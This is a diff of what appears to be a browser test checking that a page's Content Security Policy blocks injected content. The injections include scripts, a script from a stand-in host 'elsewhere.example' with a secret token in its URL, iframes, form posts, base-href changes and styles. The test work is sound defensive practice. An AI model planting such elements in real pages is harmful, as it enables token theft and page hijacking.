@@ -7,25 +7,31 @@ const FOREIGN = 'https://elsewhere.example'
 
 test.use({ breaksPolicy: true })
 
-const PLANTED: readonly (readonly [what: string, directive: string, attack: () => void])[] = [
+type Planted = readonly [tag: 'script' | 'iframe' | 'base' | 'form' | 'style', more: object]
+
+/** Adds an element to the page, and submits a form. */
+function plant([tag, more]: Planted): void {
+  const element = Object.assign(document.createElement(tag), more)
+  document.body.append(element)
+  if (element instanceof HTMLFormElement) element.submit()
+}
+
+/** What an attacker plants, and the directive that blocks it. */
+const PLANTED: readonly (readonly [
+  what: string,
+  directive: string,
+  attack: Planted | (() => void),
+])[] = [
   [
     'a script made from a text',
     'require-trusted-types-for',
-    () => {
-      const script = document.createElement('script')
-      script.textContent = 'window.planted = true'
-      document.body.append(script)
-    },
+    ['script', { textContent: 'window.planted = true' }],
   ],
   // The browser checks a script's URL twice: as a trusted type, if our policy does not exist yet, and against the allowed hosts.
   [
     'a script of another host',
     'script-src-elem|require-trusted-types-for',
-    () => {
-      const script = document.createElement('script')
-      script.src = 'https://elsewhere.example/evil.js?token=secret'
-      document.body.append(script)
-    },
+    ['script', { src: `${FOREIGN}/evil.js?token=secret` }],
   ],
   // Runs in a timer, because the browser lets the test's own code evaluate any text.
   [
@@ -59,43 +65,10 @@ const PLANTED: readonly (readonly [what: string, directive: string, attack: () =
         () => undefined,
       ),
   ],
-  [
-    'a frame of another host',
-    'frame-src',
-    () => {
-      const frame = document.createElement('iframe')
-      frame.src = 'https://elsewhere.example/'
-      document.body.append(frame)
-    },
-  ],
-  [
-    'a form to another host',
-    'form-action',
-    () => {
-      const form = document.createElement('form')
-      form.action = 'https://elsewhere.example/'
-      document.body.append(form)
-      form.submit()
-    },
-  ],
-  [
-    'another base for the addresses',
-    'base-uri',
-    () => {
-      const base = document.createElement('base')
-      base.href = 'https://elsewhere.example/'
-      document.head.append(base)
-    },
-  ],
-  [
-    'styles in the page',
-    'style-src-elem',
-    () => {
-      const style = document.createElement('style')
-      style.append('body { display: none }')
-      document.head.append(style)
-    },
-  ],
+  ['a frame of another host', 'frame-src', ['iframe', { src: `${FOREIGN}/` }]],
+  ['a form to another host', 'form-action', ['form', { action: `${FOREIGN}/` }]],
+  ['another base for the addresses', 'base-uri', ['base', { href: `${FOREIGN}/` }]],
+  ['styles in the page', 'style-src-elem', ['style', { textContent: 'body { display: none }' }]],
 ]
 
 test(
@@ -140,7 +113,9 @@ test(
     await visit.settles()
     for (const [what, directive, attack] of PLANTED) {
       blocked.length = 0
-      await page.evaluate(attack).catch(() => undefined)
+      const planting =
+        typeof attack === 'function' ? page.evaluate(attack) : page.evaluate(plant, attack)
+      await planting.catch(() => undefined)
       await expect
         .poll(() => blocked.join('\n'), what)
         .toMatch(new RegExp(`^(?:${directive})`, 'm'))
